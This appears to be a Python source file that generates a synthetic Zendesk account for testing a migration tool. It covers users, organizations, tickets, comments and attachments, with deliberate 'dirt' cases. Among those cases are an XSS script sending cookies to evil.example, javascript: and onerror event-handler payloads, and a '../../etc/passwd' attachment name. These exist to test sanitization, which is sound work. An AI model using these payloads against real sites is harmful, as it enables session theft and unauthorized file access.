"""A deterministic synthetic Zendesk account: the same (seed, size) gives the same payloads in any process.

``size`` is the number of tickets; end users, organizations and agents scale with it. Tickets are a small dict
each, made in one pass from one random stream; a ticket's comments and attachments are made on demand from a
stream of their own, so large accounts stay cheap. Payload shapes follow Zendesk's API reference (cited in the
plugin's README); the server (``server.py``) only pages and shapes them.

Named dirt (``dirt.py``) sits on fixed records. Writes an agent's activity would make (a comment, a status
change, a deletion) are kept as overlays (``apply_update``), so ``snapshot()`` shows that a migration makes none.
"""

from __future__ import annotations

import copy
import hashlib
import random
import threading
import time
import unicodedata
from dataclasses import dataclass, field
from datetime import UTC, datetime
from typing import Any
from urllib.parse import quote

from .catalog import build_configuration, build_help_center
from .dirt import DIRT_CASES, PLACES
from .ids import (
    AGENT_BASE,
    ANCHOR,
    ARCHIVE_AFTER,
    ATTACHMENT_BASE,
    CHANNEL_WEIGHTS,
    COMMENT_BASE,
    COMMENTS_PER_TICKET_SPACE,
    DAY,
    DELETED_AGENT_ID,
    DELETED_END_USER_ID,
    DELETED_GROUP_ID,
    END_USER_BASE,
    FIRST,
    GROUP_BASE,
    LAST,
    LONG_THREAD,
    MEMBERSHIP_BASE,
    NOTES,
    ORG_BASE,
    ORG_FIELD_BASE,
    PHRASES,
    PRIORITIES,
    REPLIES,
    SPAN,
    STATUS_WEIGHTS,
    SUPPORT_ADDRESS,
    TAG_WORDS,
    TICKET_FIELD_BASE,
    TYPES,
    USER_FIELD_BASE,
    iso,
)


def ascii_name(text: str) -> str:
    """Email local parts are ASCII in practice (Zendesk accounts rarely see SMTPUTF8 addresses): 'Chloé' -> 'chloe'."""
    return unicodedata.normalize("NFKD", text).encode("ascii", "ignore").decode().lower()


def _weighted(rng: random.Random, weights: dict[Any, int]) -> Any:
    return rng.choices(list(weights), weights=list(weights.values()))[0]


@dataclass
class Ticket:
    """What a ticket is made of; its payload and comments are rendered from it on demand."""

    id: int
    created: int
    updated: int
    status: str
    channel: str
    requester_id: int
    assignee_id: int | None
    group_id: int | None
    organization_id: int | None
    subject: str
    priority: str | None
    type: str | None
    tags: list[str]
    custom: dict[int, Any]
    satisfaction: dict[str, Any] | None
    n_comments: int
    dirt: set[str] = field(default_factory=set)
    deleted_at: int | None = None
    rel: dict[str, Any] | None = None  # via.source.rel and its ticket: merge target or follow-up parent


class Account:
    def __init__(self, seed: int = 42, size: int = 100, *, dirt: bool = True, huge_thread: int = LONG_THREAD,
                 subdomain: str = "acme"):
        self.seed, self.size, self.dirt, self.subdomain = seed, max(1, int(size)), dirt, subdomain
        self.huge_thread = huge_thread
        rng = random.Random(f"zendesk-account:{seed}:{size}")
        self._lock = threading.RLock()
        self._attachments: dict[int, dict[str, Any]] = {}  # attachment id -> name, size, gone, token
        self._build_fields()
        self._build_people(rng)
        self._build_tickets(rng)
        build_configuration(self)
        build_help_center(self)
        # Overlays of what agents did after the seed (never the migration): ticket id -> changes / new comments.
        self.updates: dict[int, dict[str, Any]] = {}
        self.new_comments: dict[int, list[dict[str, Any]]] = {}

    # -- placement ------------------------------------------------------------------------------------

    def placed(self, case: str) -> bool:
        if not self.dirt or case not in PLACES:
            return False
        if DIRT_CASES[case].gated and not (case == "ticket_10k_comments" and self.huge_thread >= 10_000):
            return False
        resource, index = PLACES[case]
        limit = {"users": len(self.end_users), "agents": len(self.agents), "tickets": self.size}[resource]
        return index <= limit if resource == "tickets" else index < limit

    def dirt_manifest(self) -> list[dict[str, Any]]:
        """Every placed case: the Zendesk record carrying it and the canonical rules it exercises."""
        out = []
        for name, case in DIRT_CASES.items():
            if not self.placed(name):
                continue
            resource, index = PLACES[name]
            source_id = self.end_users[index]["id"] if resource == "users" else \
                self.agents[index]["id"] if resource == "agents" else index
            out.append({"case": name, "resource": case.resource, "canonical": case.canonical,
                        "source_id": str(source_id), "rules": list(case.rules), "expected": case.expected})
        return out

    # -- fields -----------------------------------------------------------------------------------------

    def _build_fields(self) -> None:
        t0 = iso(ANCHOR - SPAN - 30 * DAY)

        def options(fid: int, names: tuple[str, ...], prefix: str) -> list[dict[str, Any]]:
            return [{"id": fid * 10 + k, "name": n, "raw_name": n, "value": f"{prefix}_{n.lower().replace(' ', '_')}",
                     "default": False} for k, n in enumerate(names)]

        system = [("subject", "Subject"), ("description", "Description"), ("status", "Status"),
                  ("tickettype", "Type"), ("priority", "Priority"), ("group", "Group"), ("assignee", "Assignee")]
        custom = [("text", "Order number", ()), ("tagger", "Product", ("Widget", "Gadget", "Gizmo")),
                  ("decimal", "Refund amount", ()), ("date", "Follow-up date", ()), ("checkbox", "Warranty", ()),
                  ("multiselect", "Components", ("Battery", "Screen", "Charger")), ("integer", "Units", ())]
        self.ticket_fields = []
        for k, (ftype, title) in enumerate(system):
            self.ticket_fields.append(self._field(TICKET_FIELD_BASE + k, ftype, title, k, t0, removable=False))
        for k, (ftype, title, names) in enumerate(custom, start=len(system)):
            fid = TICKET_FIELD_BASE + k
            f = self._field(fid, ftype, title, k, t0)
            if names:
                f["custom_field_options"] = options(fid, names, title.split()[0].lower())
            if ftype == "checkbox":
                f["tag"] = "warranty"
            self.ticket_fields.append(f)
        self.custom_ticket_fields = [f for f in self.ticket_fields if f["removable"]]
        user_fields = [("dropdown", "customer_tier", "Customer tier", ("Bronze", "Silver", "Gold")),
                       ("text", "account_number", "Account number", ()), ("checkbox", "newsletter", "Newsletter", ()),
                       ("date", "signup_date", "Signup date", ()), ("integer", "lifetime_orders", "Lifetime orders", ())]
        self.user_fields = []
        for k, (ftype, key, title, names) in enumerate(user_fields):
            fid = USER_FIELD_BASE + k
            f = {**self._field(fid, ftype, title, k, t0), "key": key, "system": False}
            f.pop("removable", None)
            if names:
                f["custom_field_options"] = options(fid, names, key)
            self.user_fields.append(f)
        org_fields = [("dropdown", "region", "Region", ("EMEA", "Americas", "APAC")),
                      ("decimal", "contract_value", "Contract value", ())]
        self.org_fields = []
        for k, (ftype, key, title, names) in enumerate(org_fields):
            fid = ORG_FIELD_BASE + k
            f = {**self._field(fid, ftype, title, k, t0), "key": key, "system": False}
            f.pop("removable", None)
            if names:
                f["custom_field_options"] = options(fid, names, key)
            self.org_fields.append(f)

    @staticmethod
    def _field(fid: int, ftype: str, title: str, position: int, t0: str, *, removable: bool = True) -> dict[str, Any]:
        return {"id": fid, "url": f"/api/v2/ticket_fields/{fid}.json", "type": ftype, "title": title,
                "raw_title": title, "description": "", "position": position, "active": True, "required": False,
                "collapsed_for_agents": False, "regexp_for_validation": None, "title_in_portal": title,
                "visible_in_portal": True, "editable_in_portal": False, "required_in_portal": False, "tag": None,
                "created_at": t0, "updated_at": t0, "removable": removable, "agent_description": None}

    def _field_value(self, rng: random.Random, f: dict[str, Any]) -> Any:
        ftype = f["type"]
        if ftype in ("tagger", "dropdown"):
            return rng.choice(f["custom_field_options"])["value"]
        if ftype == "multiselect":
            opts = f["custom_field_options"]
            return [o["value"] for o in rng.sample(opts, rng.randint(1, len(opts)))]
        if ftype == "checkbox":
            return rng.random() < 0.5
        if ftype == "date":
            return datetime.fromtimestamp(ANCHOR - rng.randint(0, SPAN), UTC).strftime("%Y-%m-%d")
        if ftype == "decimal":
            return round(rng.uniform(5, 500), 2)
        if ftype == "integer":
            return rng.randint(0, 40)
        return f"ORD-{rng.randint(100000, 999999)}"

    # -- people ---------------------------------------------------------------------------------------

    def _build_people(self, rng: random.Random) -> None:
        n_agents = max(4, self.size // 8)
        n_users = max(10, self.size)
        n_orgs = max(3, self.size // 5)
        t_start = ANCHOR - SPAN - 20 * DAY
        self.orgs = []
        for k in range(n_orgs):
            oid = ORG_BASE + k
            created = t_start + k * 3_600
            self.orgs.append({
                "url": f"/api/v2/organizations/{oid}.json", "id": oid, "name": f"{LAST[k % len(LAST)]} Holding {k}",
                "shared_tickets": False, "shared_comments": False, "external_id": None,
                "created_at": iso(created), "updated_at": iso(created + 7 * DAY + k * 60),
                "domain_names": [f"org{k}.example.com"], "details": "", "notes": "", "group_id": None,
                "tags": ["enterprise"] if k % 3 == 0 else [],
                "organization_fields": {"region": self.org_fields[0]["custom_field_options"][k % 3]["value"],
                                        "contract_value": float(1000 * (k + 1))},
            })
        self.groups = []
        for k, name in enumerate(("Support", "Billing", "Escalations")):
            gid = GROUP_BASE + k
            self.groups.append({"url": f"/api/v2/groups/{gid}.json", "id": gid, "is_public": True, "name": name,
                                "description": f"{name} team", "default": k == 0, "deleted": False,
                                "created_at": iso(t_start), "updated_at": iso(t_start)})
        self.deleted_groups = [{"url": f"/api/v2/groups/{DELETED_GROUP_ID}.json", "id": DELETED_GROUP_ID,
                                "is_public": True, "name": "Old night shift", "description": "", "default": False,
                                "deleted": True, "created_at": iso(t_start), "updated_at": iso(t_start + DAY)}]
        self.agents = []
        for k in range(n_agents):
            uid = AGENT_BASE + k
            first, last = FIRST[k % len(FIRST)], LAST[(k * 7) % len(LAST)]
            self.agents.append(self._user(uid, f"{first} {last}", f"{ascii_name(first)}.agent{k}@acme.example",
                                          "admin" if k == 0 else "agent", t_start + k * 60, rng,
                                          suspended=self.dirt and k == 2))
        self.memberships = []
        for k, agent in enumerate(self.agents):
            for g in {k % 3, (k + 1) % 3} if k % 2 else {k % 3}:
                mid = MEMBERSHIP_BASE + k * 10 + g
                self.memberships.append({"url": f"/api/v2/group_memberships/{mid}.json", "id": mid,
                                         "user_id": agent["id"], "group_id": GROUP_BASE + g, "default": g == k % 3,
                                         "created_at": agent["created_at"], "updated_at": agent["created_at"]})
        self.end_users = []
        for k in range(n_users):
            uid = END_USER_BASE + k * 13
            first, last = FIRST[(k * 3) % len(FIRST)], LAST[k % len(LAST)]
            name, email, phone = f"{first} {last}", f"{ascii_name(first)}.{k}@customer{k % 7}.example", None
            if self.dirt and k == 3:  # the case-differing twin of end user 2
                email = self.end_users[2]["email"].upper().replace(".EXAMPLE", ".example")
            if self.dirt and k == 5:
                email, phone = None, "+31 6 1234 5678"
            if self.dirt and k == 6:
                name = "Zoë 🚀 Ramírez 🇳🇱"
            if self.dirt and k == 7:
                name = "ليلى حداد"
            user = self._user(uid, name, email, "end-user", t_start + 3_600 * 24 + k * 1_800, rng,
                              suspended=self.dirt and k == 4, phone=phone)
            user["organization_id"] = self.orgs[k % len(self.orgs)]["id"] if k % 5 != 4 else None
            user["user_fields"] = {f["key"]: self._field_value(rng, f) if rng.random() < 0.8 else None
                                   for f in self.user_fields}
            self.end_users.append(user)
        self.users_by_id = {u["id"]: u for u in (*self.agents, *self.end_users)}

    def _user(self, uid: int, name: str, email: str | None, role: str, created: int, rng: random.Random, *,
              suspended: bool = False, phone: str | None = None) -> dict[str, Any]:
        return {
            "id": uid, "url": f"/api/v2/users/{uid}.json", "name": name, "email": email,
            "created_at": iso(created), "updated_at": iso(created + 2 * DAY), "time_zone": "Amsterdam",
            "iana_time_zone": "Europe/Amsterdam", "phone": phone, "shared_phone_number": None if phone is None else False,
            "photo": None, "locale_id": 1, "locale": "en-US", "organization_id": None, "role": role,
            "verified": True, "external_id": None, "tags": [], "alias": "", "active": True, "shared": False,
            "shared_agent": False, "last_login_at": iso(created + 30 * DAY) if role != "end-user" else None,
            "two_factor_auth_enabled": False, "signature": None, "details": "", "notes": "",
            "role_type": None, "custom_role_id": None, "moderator": role != "end-user",
            "ticket_restriction": None if role != "end-user" else "requested", "only_private_comments": False,
            "restricted_agent": role == "end-user", "suspended": suspended,
            "default_group_id": GROUP_BASE if role != "end-user" else None, "report_csv": role == "admin",
            "user_fields": {},
        }

    # -- tickets --------------------------------------------------------------------------------------

    def _build_tickets(self, rng: random.Random) -> None:
        self.tickets: list[Ticket] = []
        agents = [a["id"] for a in self.agents]
        for tid in range(1, self.size + 1):
            created = ANCHOR - SPAN + rng.randint(0, SPAN - DAY)
            status = _weighted(rng, STATUS_WEIGHTS)
            life = rng.randint(600, 20 * DAY)
            updated = min(created + life, ANCHOR - 60)
            requester = self.end_users[rng.randrange(len(self.end_users))]
            group = rng.randrange(3)
            tags = sorted(set(rng.sample(TAG_WORDS, rng.randint(0, 3))))
            custom = {f["id"]: self._field_value(rng, f) for f in self.custom_ticket_fields if rng.random() < 0.6}
            if custom.get(self.ticket_fields[11]["id"]):  # the checkbox sets its tag, as Zendesk does
                tags = sorted({*tags, "warranty"})
            satisfaction = None
            if status in ("solved", "closed"):
                score = rng.choice(("good", "bad", "offered", "unoffered"))
                satisfaction = {"score": score}
                if score in ("good", "bad"):
                    satisfaction.update({"id": 380_000_000 + tid, "comment": "Quick help, thanks!"
                                         if score == "good" else "Took too long."})
            t = Ticket(tid, created, updated, status, _weighted(rng, CHANNEL_WEIGHTS), requester["id"],
                       None if status == "new" else rng.choice(agents), GROUP_BASE + group if status != "new" else None,
                       requester.get("organization_id"), f"{rng.choice(PHRASES).capitalize()} (#{tid})",
                       rng.choice(PRIORITIES), rng.choice(TYPES), tags, custom, satisfaction, rng.randint(1, 7))
            self.tickets.append(t)
        if self.dirt:
            self._place_ticket_dirt()

    def _ticket(self, tid: int) -> Ticket | None:
        return self.tickets[tid - 1] if 1 <= tid <= len(self.tickets) else None

    def _place_ticket_dirt(self) -> None:
        def at(case: str) -> Ticket | None:
            return self._ticket(PLACES[case][1]) if self.placed(case) else None

        if t := at("ticket_archived"):
            t.created, t.updated, t.status = ANCHOR - 700 * DAY, ANCHOR - 690 * DAY, "closed"
        if t := at("comment_by_deleted_agent"):
            t.created, t.updated, t.status, t.n_comments = ANCHOR - 650 * DAY, ANCHOR - 640 * DAY, "closed", 4
        if (t := at("ticket_merged")) and self._ticket(4):
            t.status, t.tags, t.rel = "closed", sorted({*t.tags, "closed_by_merge"}), {"rel": "merge", "ticket_id": 4}
            t.n_comments = max(t.n_comments, 2)
            t.dirt.add("merged")
        if (t := at("ticket_follow_up")) and self._ticket(3):
            parent = self._ticket(3)
            parent.status = "closed"
            t.rel = {"rel": "follow_up", "ticket_id": 3}
            t.created, t.requester_id = max(t.created, parent.updated + DAY), parent.requester_id
            t.updated = min(max(t.updated, t.created + 3_600), ANCHOR - 60)
        if t := at("ticket_deleted"):
            t.deleted_at = t.updated + DAY
            t.updated = min(t.deleted_at, ANCHOR - 60)
        if t := at("ticket_requester_deleted"):
            t.requester_id, t.organization_id = DELETED_END_USER_ID, None
        if t := at("ticket_assignee_deleted"):
            t.assignee_id, t.status = DELETED_AGENT_ID, "closed"
        if t := at("ticket_group_deleted"):
            t.group_id = DELETED_GROUP_ID
        if t := at("ticket_10k_comments"):
            t.n_comments = self.huge_thread
        elif self.size >= 19:  # the long thread everyone gets: comment pagination over several pages
            self.tickets[18].n_comments = LONG_THREAD
        for case in ("comment_html_script", "comment_html_event_handlers", "comment_zero_width", "comment_emoji",
                     "attachment_gone", "attachment_inline_image", "comment_empty_body", "attachment_non_ascii_name",
                     "attachment_path_traversal"):
            if t := at(case):
                t.dirt.add(case)
                t.n_comments = max(t.n_comments, 2)

    def is_archived(self, t: Ticket) -> bool:
        return self.status(t) == "closed" and self.updated(t) < ANCHOR - ARCHIVE_AFTER

    def status(self, t: Ticket) -> str:
        return self.updates.get(t.id, {}).get("status", t.status)

    def updated(self, t: Ticket) -> int:
        return self.updates.get(t.id, {}).get("updated", t.updated)

    def is_deleted(self, t: Ticket) -> bool:
        return t.deleted_at is not None or "deleted_at" in self.updates.get(t.id, {})

    def ticket_payload(self, t: Ticket, base: str = "") -> dict[str, Any]:
        """The ticket as the API shows it (status 'deleted' for a deleted one, as the incremental export does)."""
        requester = self.users_by_id.get(t.requester_id)
        via_source: dict[str, Any] = {"from": {}, "to": {}, "rel": None}
        if t.channel == "email" and requester and requester.get("email"):
            via_source = {"from": {"address": requester["email"], "name": requester["name"]},
                          "to": {"address": SUPPORT_ADDRESS, "name": "Acme Support"}, "rel": None}
        if t.rel and t.rel["rel"] == "follow_up":
            via_source = {"from": {"ticket_id": t.rel["ticket_id"], "subject": self.tickets[t.rel["ticket_id"] - 1].subject},
                          "to": {}, "rel": "follow_up"}
        channel = "web" if t.rel and t.rel["rel"] == "follow_up" else t.channel
        fields = [{"id": f["id"], "value": t.custom.get(f["id"])} for f in self.custom_ticket_fields]
        status = "deleted" if self.is_deleted(t) else self.status(t)
        return {
            "url": f"{base}/api/v2/tickets/{t.id}.json", "id": t.id, "external_id": None,
            "via": {"channel": channel, "source": via_source},
            "created_at": iso(t.created), "updated_at": iso(self.updated(t)), "generated_timestamp": self.updated(t),
            "type": t.type, "subject": t.subject, "raw_subject": t.subject, "description": self._first_body(t),
            "priority": t.priority, "status": status, "recipient": SUPPORT_ADDRESS if t.channel == "email" else None,
            "requester_id": t.requester_id, "submitter_id": t.requester_id, "assignee_id": t.assignee_id,
            "organization_id": t.organization_id, "group_id": t.group_id, "collaborator_ids": [], "follower_ids": [],
            "email_cc_ids": [], "forum_topic_id": None, "problem_id": None, "has_incidents": False,
            "is_public": True, "due_at": None, "tags": list(t.tags), "custom_fields": fields, "fields": fields,
            "satisfaction_rating": t.satisfaction, "sharing_agreement_ids": [],
            "followup_ids": [5] if t.id == 3 and self.placed("ticket_follow_up") else [],
            "ticket_form_id": 360_000_001, "brand_id": 360_000_002, "allow_channelback": False,
            "allow_attachments": True, "from_messaging_channel": t.channel == "native_messaging",
        }

    def metric_set(self, t: Ticket) -> dict[str, Any]:
        """The ticket's metrics, as the export's ``include=metric_sets`` side-loads them."""
        rng = random.Random(f"metrics:{self.seed}:{t.id}")
        solved = iso(self.updated(t)) if self.status(t) in ("solved", "closed") else None
        reply = rng.randint(5, 600)
        return {"id": 390_000_000 + t.id, "ticket_id": t.id, "created_at": iso(t.created),
                "updated_at": iso(self.updated(t)), "assigned_at": iso(t.created + 300) if t.assignee_id else None,
                "solved_at": solved, "reopens": 0, "replies": max(0, t.n_comments - 1),
                "reply_time_in_minutes": {"calendar": reply, "business": reply},
                "full_resolution_time_in_minutes": {"calendar": None, "business": None}}

    def comment_count(self, t: Ticket) -> int:
        return t.n_comments + len(self.new_comments.get(t.id, []))

    # -- comments and attachments ---------------------------------------------------------------------

    def _first_body(self, t: Ticket) -> str:
        return random.Random(f"body:{self.seed}:{t.id}").choice(PHRASES).capitalize() + "."

    def attachment_content(self, token: str) -> bytes | None:
        """The file behind a content_url's token (None: no such file, or gone: a 404). The token starts with the
        attachment id in hex, so the file is found without the comments having been listed first."""
        try:
            aid = int(token[:-12], 16)
        except ValueError:
            return None
        with self._lock:
            found = self._attachments.get(aid)
        if found is None:  # not listed in this process yet: render its ticket's comments, which registers it
            t = self._ticket((aid - ATTACHMENT_BASE) // 4 // COMMENTS_PER_TICKET_SPACE)
            if t is not None:
                self.comments(t)
            with self._lock:
                found = self._attachments.get(aid)
        if found is None or found["token"] != token or found["gone"]:
            return None
        return _content(aid, found["file_name"], found["size"])

    def comments(self, t: Ticket, base: str = "") -> list[dict[str, Any]]:
        """The ticket's comments, oldest first (then what agents added after the seed)."""
        rng = random.Random(f"comments:{self.seed}:{t.id}")
        out = []
        span = max(60, t.updated - t.created)  # the seed's times: an agent's later update moves no old comment
        requester = self.users_by_id.get(t.requester_id)
        agents = [a["id"] for a in self.agents]
        for k in range(t.n_comments):
            cid = COMMENT_BASE + t.id * COMMENTS_PER_TICKET_SPACE + k
            created = t.created + (span * k) // max(1, t.n_comments)
            if k == 0:
                author, public, text = t.requester_id, True, self._first_body(t)
            elif "merged" in t.dirt and k == t.n_comments - 1:
                author, public = t.assignee_id or agents[0], False
                text = f"Request #{t.id} \"{t.subject}\" was closed and merged into request #{t.rel['ticket_id']}."
            else:
                roll = rng.random()
                if roll < 0.45:
                    author, public, text = t.assignee_id or rng.choice(agents), True, rng.choice(REPLIES)
                elif roll < 0.7:
                    author, public, text = t.assignee_id or rng.choice(agents), False, rng.choice(NOTES)
                else:
                    author, public, text = t.requester_id, True, rng.choice(PHRASES).capitalize() + "."
            if k > 0 and t.id == PLACES["comment_by_deleted_agent"][1] and self.placed("comment_by_deleted_agent"):
                author = DELETED_AGENT_ID
            html = f"<div class=\"zd-comment\" dir=\"auto\"><p>{text}</p></div>"
            attachments: list[dict[str, Any]] = []
            if rng.random() < 0.15:
                attachments.append(self._attachment(cid, 0, f"screenshot-{cid % 1000}.png", "image/png", rng, base))
            html, text, attachments = self._comment_dirt(t, k, cid, html, text, attachments, rng, base)
            is_customer = author == t.requester_id
            channel = t.channel if (k == 0 or is_customer) else "web"
            source: dict[str, Any] = {"from": {}, "to": {}, "rel": None}
            if channel == "email" and is_customer and requester and requester.get("email"):
                source = {"from": {"address": requester["email"], "name": requester["name"]},
                          "to": {"address": SUPPORT_ADDRESS, "name": "Acme Support"}, "rel": None}
            if "merged" in t.dirt and k == t.n_comments - 1:
                channel, source = "web", {"from": {}, "to": {}, "rel": "merge"}
            out.append({"id": cid, "type": "VoiceComment" if channel == "voice" and k == 0 else "Comment",
                        "author_id": author, "body": text, "html_body": html, "plain_body": text, "public": public,
                        "attachments": attachments, "audit_id": cid + 7, "via": {"channel": channel, "source": source},
                        "created_at": iso(created), "metadata": {"system": {"client": "Mozilla/5.0"}, "custom": {}}})
        out.extend(copy.deepcopy(self.new_comments.get(t.id, [])))
        return out

    def _comment_dirt(self, t: Ticket, k: int, cid: int, html: str, text: str, attachments: list,
                      rng: random.Random, base: str) -> tuple[str, str, list]:
        if k != 1:
            return html, text, attachments
        if "comment_html_script" in t.dirt:
            html = ("<div style=\"color:red\"><p>Please find the invoice below.</p><script>"
                    "document.location='https://evil.example/?c='+document.cookie</script><style>p{x:y}</style></div>")
            text = "Please find the invoice below."
        elif "comment_html_event_handlers" in t.dirt:  # unclosed tags on purpose
            html = ("<div><p>Click <a href=\"javascript:alert(1)\">here<p><img src=x onerror=\"alert(1)\">"
                    "<iframe src=\"https://evil.example\"></iframe><b>to confirm")
            text = "Click here\n\nto confirm"
        elif "comment_zero_width" in t.dirt:
            text = "Order\u200b number\u200c 12\u200d34\u2060 please\ufeff"
            html = f"<p>{text}</p>"
        elif "comment_emoji" in t.dirt:
            text = "CafÃ© â€“ naÃ¯ve? Thanks 👍🏽🎉 🇧🇪"
            html = f"<p>{text}</p>"
        elif "comment_empty_body" in t.dirt:
            html, text = "", ""
            attachments = [self._attachment(cid, 1, "photo.jpg", "image/jpeg", rng, base)]
        elif "attachment_gone" in t.dirt:
            attachments = [self._attachment(cid, 1, "contract.pdf", "application/pdf", rng, base, gone=True)]
        elif "attachment_inline_image" in t.dirt:
            image = self._attachment(cid, 1, "pasted-image.png", "image/png", rng, base, inline=True)
            html = f"<p>See the error:</p><p><img src=\"{image['content_url']}\" alt=\"pasted\"></p>"
            text = "See the error:"
            attachments = [image]
        elif "attachment_non_ascii_name" in t.dirt:
            attachments = [self._attachment(cid, 1, "Überweisung (1) ✓.pdf", "application/pdf", rng, base)]
        elif "attachment_path_traversal" in t.dirt:
            attachments = [self._attachment(cid, 1, "../../etc/passwd", "text/plain", rng, base)]
        return html, text, attachments

    def _attachment(self, cid: int, j: int, name: str, mime: str, rng: random.Random, base: str, *,
                    inline: bool = False, gone: bool = False) -> dict[str, Any]:
        aid = ATTACHMENT_BASE + (cid - COMMENT_BASE) * 4 + j
        size = rng.randint(200, 4_000)
        token = f"{aid:x}" + hashlib.sha256(f"{self.seed}:{aid}".encode()).hexdigest()[:12]
        url = f"{base}/attachments/token/{token}/?name={quote(name, safe='')}"
        with self._lock:
            self._attachments[aid] = {"file_name": name, "size": size, "gone": gone, "token": token}
        return {"url": f"{base}/api/v2/attachments/{aid}.json", "id": aid, "file_name": name, "content_url": url,
                "mapped_content_url": url, "content_type": mime, "size": size, "width": None, "height": None,
                "inline": inline, "deleted": False, "malware_access_override": False,
                "malware_scan_result": "malware_not_found", "thumbnails": []}

    # -- agents' activity (never the migration's) -------------------------------------------------------

    def apply_update(self, tid: int, ticket: dict[str, Any], now: float | None = None) -> dict[str, Any] | None:
        """PUT /tickets/{id}: a new status and/or a comment, as an agent's update makes them."""
        t = self._ticket(tid)
        if t is None or self.is_deleted(t):
            return None
        stamp = max(int(now or time.time()), ANCHOR + 1)
        with self._lock:
            upd = self.updates.setdefault(tid, {})
            if isinstance(ticket.get("status"), str):
                upd["status"] = ticket["status"]
            comment = ticket.get("comment")
            if isinstance(comment, dict) and (comment.get("body") or comment.get("html_body")):
                added = self.new_comments.setdefault(tid, [])
                cid = COMMENT_BASE + tid * COMMENTS_PER_TICKET_SPACE + COMMENTS_PER_TICKET_SPACE - 1 - len(added)
                body = str(comment.get("body") or "")
                added.append({"id": cid, "type": "Comment", "author_id": comment.get("author_id") or self.agents[0]["id"],
                              "body": body, "html_body": comment.get("html_body") or f"<p>{body}</p>",
                              "plain_body": body, "public": bool(comment.get("public", True)), "attachments": [],
                              "audit_id": cid + 7, "via": {"channel": "api", "source": {"from": {}, "to": {}, "rel": None}},
                              "created_at": iso(stamp), "metadata": {"system": {}, "custom": {}}})
            upd["updated"] = stamp
        return self.ticket_payload(t)

    def apply_delete(self, tid: int, now: float | None = None) -> bool:
        t = self._ticket(tid)
        if t is None or self.is_deleted(t):
            return False
        with self._lock:
            stamp = max(int(now or time.time()), ANCHOR + 1)
            self.updates.setdefault(tid, {}).update({"deleted_at": stamp, "updated": stamp})
        return True

    def deleted_at(self, t: Ticket) -> int | None:
        return self.updates.get(t.id, {}).get("deleted_at", t.deleted_at)

    def snapshot(self) -> dict[str, Any]:
        with self._lock:
            return copy.deepcopy({"updates": self.updates, "new_comments": self.new_comments})


def _content(attachment_id: int, name: str, size: int) -> bytes:
    seed = hashlib.sha256(f"{attachment_id}:{name}".encode()).digest()
    return (seed * (size // len(seed) + 1))[:size]


__all__ = ["ANCHOR", "Account", "Ticket", "iso"]
